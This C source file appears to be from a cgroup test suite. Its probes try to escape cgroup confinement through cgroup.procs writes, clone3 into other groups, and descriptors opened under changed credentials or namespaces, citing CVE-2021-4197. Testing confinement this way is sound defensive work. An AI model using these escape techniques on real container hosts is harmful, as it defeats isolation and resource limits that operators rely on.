/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * escape_moves: out of the group, by migration and by clone3. Whoever writes cgroup.procs needs it
 * of the common ancestor as well, and it is the opener that counts, with its credentials and its
 * namespace (kernel/cgroup/cgroup.c, CVE-2021-4197).
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "cgbench/scope.h"
#include "escape.h"

enum { NOBODY = 65534 };

int escape_move_parent(struct escape *x)
{
	return escape_write(x->outer, "cgroup.procs", "0");
}

int escape_move_sibling(struct escape *x)
{
	return escape_write(x->other, "cgroup.procs", "0");
}

/* In a cgroup namespace of its own the mount's root is its group. */
int escape_move_root(struct escape *x)
{
	return *x->outer ? escape_write(x->mount, "cgroup.procs", "0") : ESCAPE_NOT_HERE;
}

/* Beside its parent, where there are no limits. */
int escape_move_new(struct escape *x)
{
	char path[ESCAPE_PATH_MAX];

	if (!*x->trial)
		return ESCAPE_NOT_HERE;
	snprintf(path, sizeof(path), "%.8000s/new", x->trial);
	return mkdir(path, 0755) < 0 ? errno : escape_write(path, "cgroup.procs", "0");
}

int escape_thread_out(struct escape *x)
{
	return escape_write(x->other, "cgroup.threads", "0");
}

static int clone_into(const char *dir)
{
	scope_fd int fd = *dir ? open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC) : -1;
	struct clone_args args = {
		.flags = CLONE_INTO_CGROUP, .exit_signal = SIGCHLD, .cgroup = (unsigned)fd};
	pid_t pid;

	if (!*dir)
		return ESCAPE_NOT_HERE;
	if (fd < 0)
		return errno;
	pid = (pid_t)syscall(SYS_clone3, &args, sizeof(args));
	if (pid == 0)
		_exit(0);
	if (pid < 0)
		return errno;
	waitpid(pid, NULL, 0);
	return 0;
}

int escape_clone_sibling(struct escape *x)
{
	return clone_into(x->other);
}

int escape_clone_root(struct escape *x)
{
	return clone_into(*x->outer ? x->mount : "");
}

static int open_procs(const struct escape *x)
{
	char path[ESCAPE_PATH_MAX + 32];

	snprintf(path, sizeof(path), "%s/cgroup.procs", x->other);
	return open(path, O_WRONLY | O_CLOEXEC);
}

/* A child that shares its descriptors with us: what it opens is ours, its credentials stay. */
static int open_by(const struct escape *x, int (*change)(const struct escape *x), int *fd)
{
	pid_t pid = (pid_t)syscall(SYS_clone, CLONE_FILES | SIGCHLD, NULL, NULL, NULL, NULL);
	int status;

	if (pid == 0) {
		int r = change(x);
		int opened = r ? -1 : open_procs(x);
		/* The lowest free number: the parent, which waits, opens none meanwhile. */
		_exit(r ?: opened < 0 ? errno : 0);
	}
	if (pid < 0 || waitpid(pid, &status, 0) != pid || !WIFEXITED(status))
		return ECHILD;
	return WEXITSTATUS(status) == 0 && fcntl(*fd, F_GETFD) < 0 ? EBADF : WEXITSTATUS(status);
}

/* The number that the next open gets. */
static int next_fd(void)
{
	int fd = open("/dev/null", O_RDONLY | O_CLOEXEC);

	if (fd >= 0)
		close(fd);
	return fd;
}

static int become_nobody(const struct escape *x)
{
	(void)x;
	return syscall(SYS_setresuid, NOBODY, NOBODY, NOBODY) < 0 ? errno : 0;
}

static int write_self(int fd)
{
	return write(fd, "0", 1) < 0 ? errno : 0;
}

/* The file is given to nobody, who opens it; we write, and may what nobody may not. */
int escape_fd_lesser(struct escape *x)
{
	char path[ESCAPE_PATH_MAX + 32];
	int fd = next_fd(), r;

	if (!*x->other)
		return ESCAPE_NOT_HERE;
	snprintf(path, sizeof(path), "%s/cgroup.procs", x->other);
	if (geteuid() != NOBODY && chown(path, NOBODY, NOBODY) < 0)
		return errno;
	r = geteuid() == NOBODY ? ESCAPE_NOT_HERE : open_by(x, become_nobody, &fd);
	return r ?: write_self(fd);
}

/* The other way round: what it inherited lets nobody do what the opener may. */
int escape_fd_greater(struct escape *x)
{
	scope_fd int fd = -1;

	if (!*x->other)
		return ESCAPE_NOT_HERE;
	fd = open_procs(x);
	if (fd < 0)
		return errno;
	return become_nobody(x) ?: write_self(fd);
}

static int leave_namespace(const struct escape *x)
{
	(void)x;
	return unshare(CLONE_NEWCGROUP) < 0 ? errno : 0;
}

/* Opened in a namespace that does not reach there. */
int escape_fd_namespaced(struct escape *x)
{
	int fd = next_fd(), r;

	if (!*x->other)
		return ESCAPE_NOT_HERE;
	r = open_by(x, leave_namespace, &fd);
	return r ?: write_self(fd);
}
